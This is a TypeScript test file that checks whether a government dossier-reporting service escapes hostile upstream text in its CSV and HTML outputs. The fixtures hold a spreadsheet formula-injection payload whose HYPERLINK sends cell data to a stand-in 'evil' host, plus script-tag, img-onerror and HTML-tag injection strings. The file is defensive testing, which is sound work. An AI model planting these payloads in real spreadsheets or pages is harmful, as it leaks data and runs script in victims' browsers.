import { createAgencyDirectory } from '../../src/services/agencies/loadAgencyDirectory';
import type { ReportJob } from '../../src/services/reports/ReportService';
import type { NationalDossier } from '../../connectors/model';
import { HolidayCalendar } from '../../src/services/calendar/HolidayCalendar';
import { WorkingTimeService } from '../../src/services/calendar/WorkingTimeService';
import { reportPeriod } from '../../src/services/reports/classifyDossier';
import { IndicatorAccumulator } from '../../src/services/reports/indicators';
import { reportCsv, reportHtml } from '../../src/services/reports/outputs';
import { buildReportResult } from '../../src/services/reports/reportResult';
import { DEFAULT_REPORT_RULES } from '../../src/services/reports/reportRules';
import { IndicatorTargets } from '../../src/services/reports/targets';

const hostile = '=HYPERLINK("http://evil/?x="&A1,"click") <script>alert(1)</script>';
const directory = createAgencyDirectory([
  {
    code: '000.00.01.H56',
    name: hostile,
    level: 2,
    parent: null,
    validFrom: null,
    validTo: null,
    successors: [],
  },
]);

const job: ReportJob = {
  id: 'r1',
  spec: { agencies: ['H56'], from: '2026-07-01', to: '2026-09-30' },
  state: 'DONE',
  requestedBy: 'key:1',
  createdAt: new Date(),
  startedAt: new Date(),
  finishedAt: new Date(),
  progress: {
    agenciesTotal: 1,
    agenciesDone: 1,
    pages: 1,
    dossiers: 3,
    percent: 100,
    etaSeconds: 0,
  },
  problems: ['000.00.01.H56: <img src=x onerror=alert(2)> answered the same page twice'],
  result: null,
};

/** Three dossiers of the hostile agency: resolved early, resolved late, unresolved. */
async function withResult(): Promise<ReportJob> {
  const period = reportPeriod('2026-07-01', '2026-09-30', new Date('2026-12-01T00:00:00Z'));
  const accumulator = new IndicatorAccumulator(
    new WorkingTimeService(await HolidayCalendar.load(null), directory),
    period,
    DEFAULT_REPORT_RULES,
  );
  const dossier = (n: number, status: number, ended: string | null) =>
    ({
      code: `000.00.01.H56-260701-000${n}`,
      procedureCode: '1.000001',
      procedureName: null,
      fieldCode: 'G15-HT',
      fieldName: hostile,
      receivedAt: '2026-07-01T08:00:00+07:00',
      dueAt: '2026-07-03T17:00:00+07:00',
      finishedAt: ended,
      returnedAt: null,
      status: { code: status, raw: String(status), lossy: false, mayBe: [] },
      channel: { code: 2, raw: '2' },
      history: [],
      fees: [],
      supplements: [],
    }) as unknown as NationalDossier;
  accumulator.add(dossier(1, 9, '2026-07-02T09:00:00+07:00'), '000.00.01.H56');
  accumulator.add(dossier(2, 9, '2026-07-10T09:00:00+07:00'), '000.00.01.H56');
  accumulator.add(dossier(3, 4, null), '000.00.01.H56');
  return {
    ...job,
    result: buildReportResult(accumulator.result(), {
      period,
      rules: DEFAULT_REPORT_RULES,
      complete: false,
      directory,
      targets: IndicatorTargets.none(),
      sources: [
        {
          connector: '<b>evil</b>',
          agencies: ['000.00.01.H56'],
          agencyFilter: 'GATEWAY',
          pages: 1,
          dossiers: 3,
          otherAgencies: 2,
          firstReadAt: '2026-12-01T00:00:00.000Z',
          lastReadAt: '2026-12-01T00:00:01.000Z',
        },
      ],
    }),
  };
}

describe('Report outputs with hostile upstream text', () => {
  it('CSV: a name a spreadsheet would run as a formula is neutralised and quoted', async () => {
    const csv = reportCsv(await withResult());
    const agencyRow = csv.split('\r\n').find((line) => line.startsWith('AGENCY,')) as string;
    expect(agencyRow).toContain(`,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")`);
    const fieldRow = csv.split('\r\n').find((line) => line.startsWith('FIELD,')) as string;
    expect(fieldRow).toContain(`,G15-HT,"'=HYPERLINK(`);
    // Total: 3 to resolve (3 online), 2 resolved (1 early, 1 late), 1 unresolved and overdue;
    // all 3 on a computed calendar (this test loads no official schedule).
    expect(csv.split('\r\n').at(-2)).toBe(
      'TOTAL,total,,,Tổng cộng,3,3,0,0,2,1,0,1,1,0,1,0,0,0,0,0,0,0,0,3,0,0,0',
    );
  });

  it('HTML: every upstream text escaped, nothing may load or run', async () => {
    const html = reportHtml({ ...(await withResult()), problems: job.problems }, directory);
    expect(html).not.toContain('<script>alert');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&lt;img src=x onerror=alert(2)&gt;');
    expect(html).not.toContain('<b>evil</b>');
    expect(html).toContain('&lt;b&gt;evil&lt;/b&gt;');
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
  });
});
